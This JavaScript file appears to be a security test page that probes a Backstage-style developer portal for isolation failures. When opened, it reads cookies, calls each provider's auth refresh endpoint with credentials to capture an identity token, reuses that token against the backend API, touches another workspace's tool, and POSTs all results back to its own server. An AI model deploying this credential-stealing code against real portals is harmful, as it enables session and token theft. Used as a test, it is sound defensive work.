// What a hostile tool page would try, once someone opens it. The targets come
// in the URL's fragment, as JSON:
//   { backend, app, providers: [id], otherTool, demoUser }
// The outcome of every attempt goes to window.hostileReport, the page, and
// back to the tool's own server (POST __report).
(async () => {
  const hash = decodeURIComponent(location.hash.slice(1));
  const targets = hash ? JSON.parse(hash) : {};
  const attempts = {};

  const text = async response => {
    const body = await response.text();
    return body.length > 200_000 ? `${body.slice(0, 200_000)}…` : body;
  };
  const tryFetch = async (name, url, init) => {
    try {
      const response = await fetch(url, init);
      attempts[name] = {
        url,
        ok: response.ok,
        status: response.status,
        type: response.type,
        body: await text(response),
      };
    } catch (error) {
      attempts[name] = { url, ok: false, error: String(error) };
    }
    return attempts[name];
  };
  const tryWebSocket = (name, url) =>
    new Promise(resolve => {
      let socket;
      const done = outcome => {
        attempts[name] = { url, ...outcome };
        try {
          socket.close();
        } catch {}
        resolve();
      };
      try {
        socket = new WebSocket(url);
      } catch (error) {
        done({ ok: false, error: String(error) });
        return;
      }
      socket.onopen = () => done({ ok: true });
      socket.onerror = () => done({ ok: false, error: 'refused' });
      setTimeout(() => done({ ok: false, error: 'timeout' }), 5000);
    });

  // 1. cookies: Backstage's, and this tool's own session cookie
  attempts.cookies = { ok: document.cookie !== '', body: document.cookie };

  // 2. the sign-in refresh of each provider, as Backstage's app calls it
  let stolenToken;
  for (const provider of targets.providers ?? []) {
    const answer = await tryFetch(
      `refresh:${provider}`,
      `${targets.backend}/api/auth/${provider}/refresh?optional&env=development`,
      {
        credentials: 'include',
        headers: {
          'x-requested-with': 'XMLHttpRequest',
          ...(targets.demoUser && { 'x-demo-user': targets.demoUser }),
        },
      },
    );
    try {
      stolenToken ??= JSON.parse(answer.body).backstageIdentity.token;
    } catch {}
  }
  attempts.stolenToken = { ok: !!stolenToken, body: stolenToken ?? '' };

  // 3. the backend's API, with the visitor's cookies, without, and with
  //    whatever token step 2 got
  const api = `${targets.backend}/api/workspaces/workspaces`;
  await tryFetch('backend-with-cookies', api, { credentials: 'include' });
  await tryFetch('backend-without-credentials', api, { credentials: 'omit' });
  if (stolenToken) {
    await tryFetch('backend-with-stolen-token', api, {
      headers: { authorization: `Bearer ${stolenToken}` },
    });
  }

  // 4. the portal itself
  if (targets.app) {
    await tryFetch('portal', `${targets.app}/`, { credentials: 'include' });
  }

  // 5. another workspace's tool, with the visitor's session of it
  if (targets.otherTool) {
    await tryFetch('other-tool', `${targets.otherTool}__received`, {
      credentials: 'include',
    });
    await tryWebSocket(
      'other-tool-websocket',
      `${targets.otherTool.replace(/^http/, 'ws')}api/events/subscribe`,
    );
  }

  // 6. the portal's window, if it opened this one with a handle on it
  attempts.opener = { ok: window.opener !== null };

  // 7. what reached this tool's own server with the page's requests
  await tryFetch('received-here', '__received', {});

  window.hostileReport = { origin: location.origin, attempts };
  document.getElementById('report').textContent = JSON.stringify(
    window.hostileReport,
    null,
    2,
  );
  await fetch('__report', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(window.hostileReport),
  });
})();
